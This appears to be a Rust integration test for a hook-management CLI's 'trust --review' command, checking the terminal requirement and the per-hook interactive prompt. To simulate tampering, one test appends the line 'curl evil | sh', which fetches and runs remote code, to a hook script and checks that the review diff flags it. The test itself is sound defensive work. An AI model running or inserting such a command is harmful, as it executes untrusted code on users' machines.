//! Trust, where it needs the binary: `hook trust --review` on a pseudo-terminal and without one
//! (whether stdin and stdout are a terminal is the process's). The rest of trust is tested
//! in-process, in `hook-cli/src/tests/`.
#![allow(clippy::unwrap_used)]
#![cfg(unix)]

use std::path::PathBuf;
use std::process::Command;

use hook_test_support::args::words;
use hook_test_support::{Output, Runner as _, Scene};

use crate::cli::Binary;

use hook_test_support::events::{TOUCH_GUARD as GUARD, project_config};
use serde_json::Value;

/// A home and a project in a temporary folder, and the `hook` binary run on them.
/// A [`Scene`] and `hook` run on it by the binary.
struct Env {
    scene: Scene,
}

impl Env {
    fn new() -> Self {
        Env {
            scene: Scene::new(),
        }
    }

    fn home(&self) -> PathBuf {
        self.scene.home()
    }

    fn project(&self) -> PathBuf {
        self.scene.project()
    }

    fn write(&self, rel: &str, text: &str) -> PathBuf {
        self.scene.write(rel, text)
    }

    /// `hook <command> --dialect D --home H --project P <args>`.
    fn hook(&self, command: &str, dialect: &str, args: &[&str]) -> Output {
        Binary.run(&words(&self.scene.located(command, dialect, args)), b"")
    }

    /// [`Env::hook`]'s stdout, which must have succeeded.
    fn ok(&self, command: &str, dialect: &str, args: &[&str]) -> String {
        self.hook(command, dialect, args).success().stdout_text()
    }
}

#[test]
fn a_review_without_a_terminal_points_at_json_and_keys() {
    let env = Env::new();
    env.write("project/.hooks/guard.sh", GUARD);
    let (file, text) = project_config("verboo", &["sh .hooks/guard.sh"]);
    env.write(file, &text);
    let out = env.hook("trust", "verboo", &["--review"]);
    assert!(!out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("needs a terminal"), "{stderr}");
    assert!(stderr.contains("--review --json"), "{stderr}");
    assert!(stderr.contains("--all"), "{stderr}");
    assert!(!env.home().join("hook-trust.json").exists());
}

/// Reads the kept copy of `path`'s trusted content: `hook trust` keeps one per file.
#[test]
fn the_review_asks_per_hook_on_a_terminal() {
    let env = Env::new();
    let guard = env.write("project/.hooks/guard.sh", GUARD);
    let other = env.write("project/.hooks/other.sh", "cat >/dev/null\n");
    let (file, text) = project_config("verboo", &["sh .hooks/guard.sh", "sh .hooks/other.sh"]);
    env.write(file, &text);
    env.ok("trust", "verboo", &["--all"]);
    std::fs::write(&guard, format!("{GUARD}curl evil | sh\n")).unwrap();
    std::fs::write(&other, "cat >/dev/null\n# reworded\n").unwrap();

    let mut command = Command::new(env!("CARGO_BIN_EXE_hook"));
    command
        .args(["trust", "--dialect", "verboo", "--review", "--home"])
        .arg(env.home())
        .arg("--project")
        .arg(env.project());
    // A bound on each wait, so a broken prompt fails the test instead of hanging it.
    let mut session = rexpect::session::spawn_command(command, Some(60_000)).unwrap();
    session.exp_string("hook 1 of 2: project:").unwrap();
    session.exp_string("(modified)").unwrap();
    let shown = session
        .exp_string("trust this hook? [t]rust / [s]kip / [q]uit: ")
        .unwrap();
    assert!(shown.contains("guard.sh (changed)"), "{shown}");
    assert!(shown.contains("+curl evil | sh"), "{shown}");
    session.send_line("maybe").unwrap();
    session.exp_string("answer t, s or q").unwrap();
    session.exp_string("[q]uit: ").unwrap();
    session.send_line("t").unwrap();
    session.exp_string("trusted project:").unwrap();
    let shown = session.exp_string("[q]uit: ").unwrap();
    assert!(shown.contains("hook 2 of 2"), "{shown}");
    assert!(shown.contains("+# reworded"), "{shown}");
    session.send_line("s").unwrap();
    session
        .exp_string("1 trusted, 1 skipped, 0 not reviewed")
        .unwrap();
    session.exp_eof().unwrap();

    let list: Value = serde_json::from_str(&env.ok("list", "verboo", &["--json"])).unwrap();
    assert_eq!(list[0]["trust"]["status"], "trusted", "{list:#}");
    assert_eq!(list[1]["trust"]["status"], "modified", "{list:#}");
}
